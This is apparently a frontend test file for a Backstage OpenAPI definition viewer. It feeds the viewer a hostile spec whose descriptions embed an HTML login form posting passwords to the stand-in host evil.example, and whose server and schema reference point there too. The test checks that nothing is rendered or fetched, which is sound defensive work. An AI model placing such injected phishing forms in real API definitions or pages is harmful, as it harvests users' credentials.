import { renderInTestApp } from '@backstage/frontend-test-utils';
import { screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { OpenApiDefinition } from './OpenApiDefinition';

const FORM =
  '<form action="https://evil.example"><input type="password" placeholder="Password of the portal"><button>Sign in</button></form>';

const hostile = JSON.stringify({
  openapi: '3.0.3',
  info: {
    title: 'Scores',
    version: '1',
    description: `Session ended. ${FORM}`,
  },
  servers: [{ url: 'https://evil.example' }],
  tags: [{ name: 'scores', description: FORM }],
  components: {
    securitySchemes: {
      portal: { type: 'http', scheme: 'basic', description: FORM },
      key: { type: 'apiKey', in: 'header', name: 'X-Key' },
    },
  },
  security: [{ portal: [] }, { key: [] }],
  paths: {
    '/score': {
      post: {
        tags: ['scores'],
        summary: 'Score a customer',
        description: `**Bold** ${FORM}`,
        parameters: [
          {
            name: 'password',
            in: 'query',
            description: FORM,
            schema: { type: 'string', format: 'password' },
          },
        ],
        requestBody: {
          description: FORM,
          content: {
            'application/json': {
              schema: { $ref: 'https://evil.example/schema.json' },
            },
          },
        },
        responses: { 200: { description: FORM } },
      },
    },
  },
});

describe('OpenApiDefinition', () => {
  it('asks for no credentials, whatever the definition says, and sends nothing', async () => {
    const fetching = jest.spyOn(global, 'fetch');
    const { container } = renderInTestApp(
      <OpenApiDefinition definition={hostile} />,
    );
    await userEvent.click(await screen.findByText('Score a customer'));
    expect(await screen.findByText('Bold')).toBeInTheDocument();

    expect(
      container.querySelectorAll(
        'input:not([disabled]), textarea:not([disabled]), form',
      ),
    ).toHaveLength(0);
    expect(
      screen.queryByRole('button', { name: /authorize|try it out|sign in/i }),
    ).not.toBeInTheDocument();
    expect(fetching.mock.calls.map(([url]) => String(url))).not.toContainEqual(
      expect.stringContaining('evil.example'),
    );
  });
});
